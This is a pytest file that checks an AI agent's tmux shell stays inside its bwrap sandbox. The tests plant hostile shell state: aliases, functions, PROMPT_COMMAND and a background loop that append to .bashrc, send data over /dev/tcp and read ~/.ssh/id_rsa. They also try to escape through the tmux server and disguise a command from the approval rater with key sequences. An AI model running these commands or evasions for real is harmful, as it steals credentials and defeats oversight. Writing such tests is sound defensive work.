"""The watched shell inside the sandbox: the tmux pane's shell starts inside the walls of the
session's mode, so whatever one command leaves in it can do no more than those walls let it.

Real tmux on a private socket, the real registry and policy, the planted machine of
``sandbox_support`` (a canary HOME outside /tmp, a listener on the host's loopback).
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator

import pytest

from tests.conftest import Harness, make_harness
from tests.sandbox_support import (
    CANARY,
    SKIP_REASON,
    Planted,
    bwrap_works,
    changed,
    planted_machine,
    snapshot,
)
from tests.test_orphans import kill_leftovers, marker, said_still_running, sleeps
from tests.test_policy import ScriptedApprover
from tests.test_tmux_tools import socket_name
from tests.tmux_helpers import SHELL, clean_env, needs_tmux
from tests.waiting import until
from tui.events import ApprovalAnswer, Notice
from tui.exec.backend import BackendError
from tui.exec.local import LocalBackend
from tui.exec.sandbox.places import Places
from tui.exec.sandbox.sandbox import Sandbox
from tui.exec.tmux import panes, shells
from tui.exec.tmux.backend import TmuxBackend
from tui.exec.tmux.control import ControlClient
from tui.exec.tmux.panes import PaneStatus
from tui.exec.tmux.shells import SETUP_TIMEOUT, PaneShells
from tui.security.confinement import Confinement
from tui.security.permissions import ApprovalMode

__all__ = ["socket_name"]  # the tmux tests' private-socket fixture

pytestmark = [needs_tmux, pytest.mark.skipif(not bwrap_works(), reason=SKIP_REASON)]


@pytest.fixture
def machine() -> Iterator[Planted]:
    with planted_machine() as planted:
        yield planted


class Rig:
    """A session's pieces on the planted machine: sandbox, tmux backend, registry, approver."""

    def __init__(
        self, machine: Planted, sandbox: Sandbox, socket_name: str, mode: ApprovalMode
    ) -> None:
        self.machine = machine
        self.sandbox = sandbox
        self.approver = ScriptedApprover()
        env = {**clean_env(), **machine.env()}
        self.backend = TmuxBackend(
            LocalBackend(default_cwd=str(machine.workspace), sandbox=self.sandbox),
            socket_name=socket_name,
            shell=SHELL,
            owner="atui-test",
            config="/dev/null",
            default_cwd=str(machine.workspace),
            env=env,
        )
        self.harness: Harness = make_harness(
            machine.workspace,
            mode=mode,
            backend=self.backend,
            approver=self.approver,
            sandbox=self.sandbox.facts(),
        )
        self.sandbox.approval_mode = lambda: self.harness.policy.approval_mode

    def allow(self, count: int = 1) -> None:
        self.approver.answers += [ApprovalAnswer.allow_once()] * count

    async def shell(self, command: str, **extra: object) -> str:
        result = await self.harness.call("run_shell", {"command": command, "timeout": 30, **extra})
        return result.text


@pytest.fixture
async def rig_factory(machine: Planted, socket_name: str) -> AsyncIterator[list[Rig]]:
    made: list[Rig] = []
    yield made
    for rig in made:
        await rig.backend.close()
        await rig.sandbox.close()


async def rig_in(made: list[Rig], machine: Planted, socket_name: str, mode: ApprovalMode) -> Rig:
    sandbox = machine.sandbox()
    said = await sandbox.start()  # before the policy learns its facts, as the app does
    assert said is None, said
    rig = Rig(machine, sandbox, socket_name, mode)
    made.append(rig)
    await rig.backend.start()
    return rig


async def test_state_planted_in_the_shell_cannot_write_outside_or_reach_the_network(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.AUTO_EDIT)
    rig.allow(20)  # even what a person said yes to stays inside the walls
    port = machine.listener.port
    escape = (
        f"echo pwned >> $HOME/.bashrc; (echo leak > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; "
        "cat $HOME/.ssh/id_rsa"
    )
    home = snapshot(machine.home)
    planted = await rig.shell(
        f"alias ls='{escape}'; function cd {{ {escape}; builtin cd \"$@\"; }}; "
        # Put before the shell's own prompt hooks, as a careful attacker would: they keep
        # working. PATH before BASH_CMDS: assigning PATH empties the command hash.
        f'PROMPT_COMMAND="{escape};$PROMPT_COMMAND"; PATH=$PWD/bin:$PATH; '
        "BASH_CMDS[git]=/bin/sh; "
        f"(while sleep 0.05; do {escape}; done) >/dev/null 2>&1 & echo planted"
    )
    assert "planted" in planted
    texts = []
    for later in ("ls", "cd .", "true", "git -c 'echo x > ~/.profile'", "echo ok > made.txt"):
        texts.append(text := await rig.shell(later))
        assert CANARY not in text, (later, text)
    # The workspace is this mode's to write.
    assert (machine.workspace / "made.txt").exists(), texts
    assert changed(home, snapshot(machine.home)) == []
    assert machine.listener.connections == 0


async def test_keys_typed_into_the_pane_meet_the_same_walls(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    """The rater judges ``echo touch M``; C-a M-d turns it into ``touch M`` in the shell."""
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.READ_ONLY)
    await rig.shell("true")
    sent = await rig.harness.call(
        "tmux_send_keys",
        {"literal_text": "echo touch M", "keys": ["C-a", "M-d", "Enter"], "screen_after": 0.5},
    )
    assert not sent.is_error, sent.text
    await rig.backend.wait_for_prompt(rig.backend.default_pane or "", 10)
    result = await rig.shell("ls")
    assert "M" not in result.split() and not (machine.workspace / "M").exists()


async def test_the_tmux_server_is_out_of_the_shells_reach(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.FULL_AUTO)
    probe = machine.home / "via-tmux"
    text = await rig.shell(
        f"echo TMUX=$TMUX; tmux -L {socket_name} run-shell 'touch {probe}'; "
        f"tmux -S /tmp/tmux-0/{socket_name} run-shell 'touch {probe}'; echo done"
    )
    assert "TMUX=/" not in text  # the shell is not told where the server is
    assert "done" in text
    assert not probe.exists()


async def test_a_yes_in_ask_mode_runs_in_a_window_with_those_walls_and_no_wider(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.ASK)
    shared = rig.backend.default_pane
    rig.approver.answers.append(ApprovalAnswer.deny())
    unasked = await rig.shell("touch unasked.txt")
    assert "denied by user" in unasked and not (machine.workspace / "unasked.txt").exists()
    rig.allow()
    approved = await rig.shell("touch approved.txt && echo made")
    assert (machine.workspace / "approved.txt").exists(), approved
    assert "approved-ws" in approved and "sandbox: workspace, no network" in approved
    window = rig.backend.last_pane
    assert window is not None and window != shared
    assert rig.backend.sandbox_label(window) == "sandbox: workspace, no network"
    assert rig.backend.sandbox_label() == "sandbox: read-only, no network"
    # What runs unasked may not be typed into the approved window.
    refused = await rig.shell("ls", target=window)
    assert "nothing is typed there" in refused
    keys = await rig.harness.call("tmux_send_keys", {"target": window, "keys": ["Enter"]})
    assert keys.is_error and "nothing is typed there" in keys.text


async def test_outside_runs_in_a_window_marked_outside_that_nothing_else_reaches(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.FULL_AUTO)
    proof = machine.home / "outside-proof"
    rig.allow()
    text = await rig.shell(f"touch {proof} && echo out", outside_sandbox=True, why="needed")
    assert proof.exists() and "out" in text
    window = rig.backend.last_pane
    assert window is not None and rig.backend.sandbox_label(window) == "OUTSIDE the sandbox"
    assert len(rig.approver.requests) == 1
    proof.unlink()
    refused = await rig.shell(f"touch {proof}", target=window)
    assert "nothing is typed there" in refused and not proof.exists()
    keys = await rig.harness.call(
        "tmux_send_keys", {"target": window, "literal_text": f"touch {proof}", "enter": True}
    )
    assert keys.is_error and not proof.exists()


async def test_changing_mode_restarts_the_shell_in_the_new_walls_and_says_so(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.FULL_AUTO)
    await rig.shell("export KEPT=1")
    assert rig.backend.sandbox_label() == "sandbox: workspace, network through the host policy"
    rig.harness.policy.approval_mode = ApprovalMode.READ_ONLY
    notices = await rig.backend.refresh_sandbox()
    assert any("restarted for the new approval mode" in n for n in notices)
    assert rig.backend.sandbox_label() == "sandbox: read-only, no network"
    text = await rig.shell('echo "KEPT=$KEPT"; cat README.md')
    assert "KEPT=1" not in text and "# project" in text
    written = await rig.shell("touch after.txt")
    assert not (machine.workspace / "after.txt").exists(), written
    assert not any(isinstance(e, Notice) and "error" in e.message for e in rig.harness.events)


def vanishing_history(machine: Planted, monkeypatch: pytest.MonkeyPatch, times: int) -> list[int]:
    """The planted ``~/.bash_history`` is found by the next ``times`` look-ups and then gone
    before bwrap mounts over it, as when a shell rewrites it at that moment. Counts looks."""
    history = machine.home / ".bash_history"
    real_places = Sandbox.places
    looks: list[int] = []

    async def places(self: Sandbox) -> Places:
        if len(looks) < times:
            history.write_text(f"secret {CANARY}\n")
        found = await real_places(self)
        looks.append(len(found.hidden_files))
        if len(looks) <= times:
            assert str(history) in found.hidden_files
            history.unlink()
        return found

    monkeypatch.setattr(Sandbox, "places", places)
    return looks


def set_up_only_once_the_wrapper_spoke(monkeypatch: pytest.MonkeyPatch) -> None:
    """The pane's set-up starts watching its output only after the wrapper around the failed
    bwrap has already said so (a loaded machine can order them so)."""
    made: list[PaneShells] = []
    real_command = PaneShells.command
    real_status = panes.pane_status

    async def command(self: PaneShells, walls: Confinement | None, cwd: str | None) -> str | None:
        made.append(self)
        return await real_command(self, walls, cwd)

    async def late_status(client: ControlClient, pane_id: str | None) -> PaneStatus | None:
        if len(made) == 1:

            def spoke() -> bool:
                return any(shells._read_status(s.status)[1] for s in made[0]._starts.values())

            await until(spoke, "the wrapper to say bwrap gave up", 10)
        return await real_status(client, pane_id)

    monkeypatch.setattr(PaneShells, "command", command)
    monkeypatch.setattr("tui.exec.tmux.shells.pane_status", late_status)


@pytest.mark.parametrize("set_up_late", [False, True], ids=["watching", "wrapper-first"])
async def test_a_pane_whose_sandbox_met_a_hidden_file_mid_rewrite_is_started_again(
    machine: Planted,
    socket_name: str,
    rig_factory: list[Rig],
    monkeypatch: pytest.MonkeyPatch,
    set_up_late: bool,
) -> None:
    """bwrap gives up when a file it was told to hide is gone by the mount: the pane's shell
    never started. The pane is started once more with the places looked up again, whether
    the set-up was already watching the pane or not yet."""
    looks = vanishing_history(machine, monkeypatch, times=1)
    if set_up_late:
        set_up_only_once_the_wrapper_spoke(monkeypatch)
    rig = await rig_in(rig_factory, machine, socket_name, ApprovalMode.AUTO_EDIT)
    assert len(looks) == 2, looks
    assert "ok" in await rig.shell("echo ok")
    assert CANARY not in await rig.shell(f"cat {machine.home}/.ssh/id_rsa")
    assert rig.backend.sandbox_label() == "sandbox: workspace, no network"


async def test_a_pane_whose_sandbox_cannot_be_built_twice_says_why_at_once(
    machine: Planted,
    socket_name: str,
    rig_factory: list[Rig],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    looks = vanishing_history(machine, monkeypatch, times=2)
    with pytest.raises(BackendError) as failed:
        await asyncio.wait_for(
            rig_in(rig_factory, machine, socket_name, ApprovalMode.AUTO_EDIT), SETUP_TIMEOUT - 5
        )
    assert len(looks) == 2, looks
    assert "could not be built, twice" in str(failed.value)
    assert "bwrap: " in str(failed.value)


async def test_a_reused_sandboxed_pane_reports_only_what_a_command_left_running(
    machine: Planted, socket_name: str, rig_factory: list[Rig]
) -> None:
    """The next agent in the pane hears of the background job the last one left, not of the
    sandbox's walls around the shell, nor of the shell inside them."""
    first = await rig_in(rig_factory, machine, socket_name, ApprovalMode.ASK)
    mark = marker()
    try:
        await first.backend.run(f"sleep 6{mark} &", timeout=30)
        left = await until(lambda: sleeps(mark), "the background sleep", 30)
        await first.backend.close()
        second = Rig(machine, first.sandbox, socket_name, ApprovalMode.ASK)
        rig_factory.append(second)
        notices = await second.backend.start()
    finally:
        kill_leftovers(mark)
    said_still_running(notices, first.backend.default_pane, left)
